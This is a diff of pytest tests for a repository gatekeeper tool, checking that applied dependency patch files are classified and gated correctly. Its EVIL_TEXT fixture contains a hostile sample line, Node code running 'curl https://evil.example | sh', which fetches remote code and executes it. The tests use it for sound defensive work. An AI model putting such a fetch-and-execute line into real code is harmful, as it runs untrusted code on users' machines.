@@ -20,6 +20,7 @@ from typing import Any
 
 import pytest
 from gitrepo import GitRepo
+from incli import cli_result
 
 from gatekeeper.classify.appliedpatches import named
 from gatekeeper.cli import main
@@ -56,13 +57,6 @@ FIXTURE = ("tests/fixtures/app/package.json", json.dumps({"pnpm": {"patchedDepen
 LOOKALIKES = ["look/tests/x.patch", "tests/unnamed.patch", "look/tests/data.txt", "tests/fixtures/app/fix.patch"]
 PATCH_TEXT = "--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-module.exports = 1\n+module.exports = 2\n"
 EVIL_TEXT = PATCH_TEXT + "+require('child_process').exec('curl https://evil.example | sh')\n"
-
-
-def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, Any]:
-    capsys.readouterr()
-    code = main(args)
-    out = capsys.readouterr().out
-    return code, json.loads(out) if out.strip().startswith("{") else out
 
 
 @pytest.fixture(scope="module")
@@ -107,8 +101,8 @@ def test_what_no_manifest_names_keeps_its_class(tree_files: dict[str, dict[str, 
 
 
 @pytest.mark.parametrize("enable", [["--enable", "deps"], []], ids=["enable-deps", "default"])
-def test_the_gate_does_not_allow_an_applied_patch(repo: tuple[GitRepo, str, str], tmp_path: Path, enable: list[str],
-                                                  capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_gate_does_not_allow_an_applied_patch(repo: tuple[GitRepo, str, str], tmp_path: Path,
+                                                  enable: list[str]) -> None:
     git, base, _head = repo
     for manifest, text, target in CASES:  # one change at a time: the named file alone
         work = GitRepo(tmp_path / target.replace("/", "_"))
@@ -117,8 +111,8 @@ def test_the_gate_does_not_allow_an_applied_patch(repo: tuple[GitRepo, str, str]
         start = work.commit("base")
         work.write(target, EVIL_TEXT)
         end = work.commit("head")
-        code, decision = _run(["gate", "--tree", f"{start}..{end}", "--repo", str(work.root), "--format", "json",
-                               *enable], capsys)
+        code, decision = cli_result(["gate", "--tree", f"{start}..{end}", "--repo", str(work.root), "--format", "json",
+                               *enable])
         # --enable deps: reviewed (was 0: allow, the file src); default policies: counted as deps (was src)
         assert code != 0 if enable else decision["summary"]["buckets"]["deps"]["files"] == 1, (target, decision)
     # The look-alikes alone are allowed as before.
@@ -128,12 +122,12 @@ def test_the_gate_does_not_allow_an_applied_patch(repo: tuple[GitRepo, str, str]
     start = work.commit("base")
     work.write("look/tests/x.patch", EVIL_TEXT)
     end = work.commit("head")
-    code, decision = _run(["gate", "--tree", f"{start}..{end}", "--repo", str(work.root), "--format", "json",
-                           *enable], capsys)
+    code, decision = cli_result(["gate", "--tree", f"{start}..{end}", "--repo", str(work.root), "--format", "json",
+                           *enable])
     assert code == 0 and decision["summary"]["buckets"]["src"]["files"] == 1, decision
 
 
-def test_a_change_cannot_drop_the_naming_line_to_escape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_change_cannot_drop_the_naming_line_to_escape(tmp_path: Path) -> None:
     work = GitRepo(tmp_path / "repo")
     work.write("package.json", json.dumps({"pnpm": {"patchedDependencies": {"a@1.0.0": "tests/a.patch"}}}))
     work.write("tests/a.patch", PATCH_TEXT)
@@ -141,12 +135,12 @@ def test_a_change_cannot_drop_the_naming_line_to_escape(tmp_path: Path, capsys: 
     work.write("package.json", json.dumps({"name": "x"}))
     work.write("tests/a.patch", EVIL_TEXT)
     end = work.commit("head")
-    code, out = _run(["classify", "--tree", f"{start}..{end}", "--repo", str(work.root), "--explain",
-                      "tests/a.patch"], capsys)
+    code, out = cli_result(["classify", "--tree", f"{start}..{end}", "--repo", str(work.root), "--explain",
+                      "tests/a.patch"])
     assert code == 0 and "deps.context.applied-patch" in out and "package.json" in out, out
 
 
-def test_from_the_patch_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_from_the_patch_alone(tmp_path: Path) -> None:
     """A manifest the patch shows is read (its hunk too); a test tree's patch it does not name needs context."""
     work = GitRepo(tmp_path / "repo")
     work.write("package.json", json.dumps({"name": "x", "pnpm": {"patchedDependencies": {}}}, indent=2))
@@ -160,15 +154,15 @@ def test_from_the_patch_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]
     work.write("tests/old.patch", EVIL_TEXT)
     work.commit("head")
     (tmp_path / "p.diff").write_bytes(work.git("diff", start, "HEAD"))
-    code, out = _run(["classify", str(tmp_path / "p.diff"), "--format", "json"], capsys)
+    code, out = cli_result(["classify", str(tmp_path / "p.diff"), "--format", "json"])
     files = {f["path"]: f for f in out["files"]}
     assert files["tests/a.patch"]["bucket"] == "deps", files["tests/a.patch"]
     for path in ("tests/old.patch", "ports/zlib/fix.diff"):
         assert "needs-context" in files[path]["tags"], files[path]
-    assert _run(["packet", str(tmp_path / "p.diff"), "--out", str(tmp_path / "packet.json")], capsys)[0] == 0
+    assert cli_result(["packet", str(tmp_path / "p.diff"), "--out", str(tmp_path / "packet.json")])[0] == 0
     for enable in (["--enable", "deps"], []):
-        code, decision = _run(["gate", str(tmp_path / "packet.json"), "--patch", str(tmp_path / "p.diff"),
-                               "--format", "json", *enable], capsys)
+        code, decision = cli_result(["gate", str(tmp_path / "packet.json"), "--patch", str(tmp_path / "p.diff"),
+                               "--format", "json", *enable])
         assert decision["summary"]["buckets"]["deps"]["files"] >= 1 and (code != 0 or not enable), decision
 
 
